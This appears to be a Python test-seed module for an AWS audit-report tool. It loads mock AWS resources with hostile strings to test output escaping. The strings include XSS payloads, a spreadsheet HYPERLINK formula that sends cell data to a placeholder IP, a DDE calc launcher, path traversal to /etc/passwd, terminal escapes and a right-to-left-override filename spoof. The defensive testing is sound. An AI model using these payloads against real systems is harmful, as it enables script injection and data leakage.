"""Hostile text wherever AWS lets its user write: markup, formulas, escapes, path tricks, direction marks, length.

IAM's names take only `A-Za-z0-9+=,.@_-` and paths any printable ASCII, so names hold what formulas and paths need,
and everything else stands in descriptions, tags, policy documents and API Gateway's free text. Some of it goes
further than AWS admits today, straight into moto's objects: a report must not rest on AWS's checks of input.
https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_iam-quotas.html
"""

from seeds.alerting import AlertBuilder
from seeds.apis import ApiBuilder, TrailBuilder, domain
from seeds.builder import Builder, ago, allow, document, trust
from seeds.rest import RestBuilder, api_key, client_certificate, usage_plan
from seeds.storage import BucketBuilder, KeyBuilder, expiry, recorder

TEXTS = (
    '<script>alert("evidence")</script>',
    '"><img src=x onerror=alert(1)>',
    "</td></tr></table><h1>pass</h1>",
    "{{ 7 * 7 }}{% raw %}",
    "[click](javascript:alert(1))",
    "| pass | pass |\n| --- | --- |",
    "`code` **bold** <!-- hidden",
    '=HYPERLINK("http://203.0.113.7/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\u001b[31mred\u001b[0m\u001b]0;title\u0007",
    "..\\..\\windows\\system32",
    "../../../etc/passwd",
    "CON",
    "evil\u202egnp.exe",
    "zero\u200bwidth\u2066isolate",
    "line one\r\nline two",
    "nul\u0000byte",
    "\u0001\u001f\u007f\u0085",
    "\u2028separator\u2029",
    "\U0001f4a3" * 20,
    "e\u0301" * 200,
    "x" * 900,
)
# What IAM's names and XML can carry.
NAMES = ("=HYPERLINK@A1", "+1+1", "-2+3", "@SUM", "..", "con", "a" * 64, "user,with,commas", "=cmd.exe", "root", "_root_account_", "0001", "1e5", "true", "null")


def seed(main: Builder, second: Builder, options: dict) -> dict:
    main.root(mfa="virtual", password_last_used=ago(3))
    main.auditor()
    identities(main)
    TrailBuilder(main, "us-east-1", "a.-_" + "9" * 124, S3KeyPrefix="../../<b>|`", IsMultiRegionTrail=True, tags={"=1+1": '<script>alert("t")</script>'})
    alerting(main)
    storage(main)
    apis(main)
    rest_apis(main)
    return {"strings": list(TEXTS) + list(NAMES)}


def identities(b: Builder) -> None:
    b.group("=group@A1", inline={"=inline": document(allow("s3:GetObject", 'arn:aws:s3:::<script>alert("g")</script>'))})
    for number, name in enumerate(NAMES):
        tags = {f"tag{n}": safe(text) for n, text in enumerate(TEXTS[number::5])}
        b.user(name, password=10 if number % 2 else None, keys=((100, None, True),) if number % 3 == 0 else (), path=path_of(number), tags={})
        b.backend.tagger.tag_resource(b.backend.users[name].arn, [{"Key": k, "Value": v[:256]} for k, v in tags.items()])
    for number, text in enumerate(TEXTS):
        role = b.role(f"role{number:02d}+=,.@-_", trust({"AWS": "*"}, Condition={"StringEquals": {"sts:ExternalId": text}}))
        role.description = safe(text)
        b.policy(f"policy{number:02d}=@", allow("s3:GetObject", "arn:aws:s3:::" + text, Sid="s"), description=safe(text)[:1000])


def alerting(b: Builder) -> None:
    """Names of alarms, metrics and filters, and what a pattern says."""
    TrailBuilder(b, "us-east-1", "to-logs", IsMultiRegionTrail=True, CloudWatchLogsLogGroupArn=f"arn:aws:logs:us-east-1:{b.id}:log-group:trail:*")
    alerts = AlertBuilder(b, "us-east-1")
    topic = alerts.topic("hostile", TEXTS[0] + "@example.com")
    kept = alerts_backend(b).filters
    for number, text in enumerate(TEXTS[:12]):
        text = safe(text)[:200]
        alerts.alarm(text, topic, metric=f"hostile{number}", AlarmDescription=text)
        kept.add_filter(text, f"{{ $.eventName = \"{text}\" }}", "trail", [{"metricName": f"hostile{number}", "metricNamespace": "Trail", "metricValue": "1"}])


def alerts_backend(b: Builder):
    from moto.logs.models import logs_backends

    return logs_backends[b.id]["us-east-1"]


def storage(b: Builder) -> None:
    """Names of buckets are tame; what stands in tags, policies, rules, prefixes, aliases and descriptions is not."""
    for number, text in enumerate(TEXTS[:10]):
        text = safe(text)
        bucket = BucketBuilder(b, ("us-east-1", "eu-west-1", "eu-central-1")[number % 3], f"example-hostile-{number}-{b.id}")
        bucket.policy(allow("s3:GetObject", f"{bucket.arn}/*", Principal="*", Sid=text)).tags(**{text[:100].strip(): text[:256]})
        bucket.kept.set_lifecycle([{**expiry(text[:200], f"{text}/", 30), "Expiration": {"Days": 30}}])
        bucket.logs_to(bucket, f"{text}/")
        key = KeyBuilder(b, "eu-west-1", text, Description=text, statements=(allow("kms:Decrypt", Principal={"AWS": "*"}, Sid=text),))
        key.kept.description = TEXTS[-number - 1]
    recorder(b, "us-east-1", TEXTS[0], name=TEXTS[1], status="FAILURE", error=TEXTS[7], allSupported=True)


def path_of(number: int) -> str:
    return ("/", "/../../", "/<b>/", "/%2e%2e/", "/a|b`c/", '/"=1+1"/')[number % 6]


def safe(text: str) -> str:
    """Without what an XML document cannot hold; AWS refuses it there too."""
    return "".join(c for c in text if c in "\t\n\r" or ord(c) >= 0x20)


def apis(b: Builder) -> None:
    for number, text in enumerate(TEXTS):
        region = ("us-east-1", "eu-west-1", "eu-central-1")[number % 3]
        api = ApiBuilder(b, region, text[:128], "HTTP" if number % 2 else "WEBSOCKET", Description=text[:1024], Tags={"tag": text[:256], text[:128].strip() or "t": "1"})
        authorizer = api.request(text[:128])
        target = api.integration(IntegrationType="HTTP_PROXY", IntegrationMethod="GET", IntegrationUri="http://203.0.113.7/" + text[:500],
                                 Description=text[:1024], PayloadFormatVersion="1.0", RequestParameters={"overwrite:header.x": text[:500]} if number % 2 else {})  # fmt: skip
        api.route(("GET /" if number % 2 else "") + text[:120], "CUSTOM", target, AuthorizerId=authorizer, OperationName=text[:64])
        api.stage("stage" + str(number), logs=text, Description=text[:1024], StageVariables={"name": text[:500], "v" + str(number): text[:512]}, Tags={"t": text[:256]})
        if number in (0, 14, 16):
            domain(b, region, f"xn--{number}.example.com", api, f"stage{number}", key=text[:50])


def rest_apis(b: Builder) -> None:
    """Paths keep to what moto lets through; everything else is text."""
    for number, text in enumerate(TEXTS[::3]):
        region = ("us-east-1", "eu-west-1", "eu-central-1")[number % 3]
        policy = document({"Effect": "Allow", "Principal": "*", "Action": "execute-api:Invoke", "Resource": "execute-api:/*", "Sid": text, "Condition": {"StringEquals": {text: text}}})
        api = RestBuilder(b, region, text[:128], description=text[:1024], tags={"tag": text[:256], text[:128].strip() or "t": "1"}, policy=policy)
        token = api.authorizer(text[:128], source=text[:256])
        api.kept.authorizers[token].identity_validation_expression = text
        api.method("GET", f"/r{number}", "CUSTOM", "http://203.0.113.7/x", authorizerId=token, requestParameters={"integration.request.header.x": text[:500]}, operationName=text[:64])
        api.kept.resources[api.resource(f"/r{number}")].resource_methods["GET"].method_integration.uri = text
        api.kept.resources[api.resource(f"/r{number}")].path_part = f"r{number}{{{text[:60]}}}"
        api.stage(f"stage{number}", logs=text, description=text[:1024], variables={"name": text[:500], "v" + str(number): text[:512]}, tags={"t": text[:256]})
        key = api_key(b, region, text[:1024], 10, description=text[:1024])
        usage_plan(b, region, text[:256], ((api, f"stage{number}"),), (key,))
        client_certificate(b, region, 10, text[:1024])
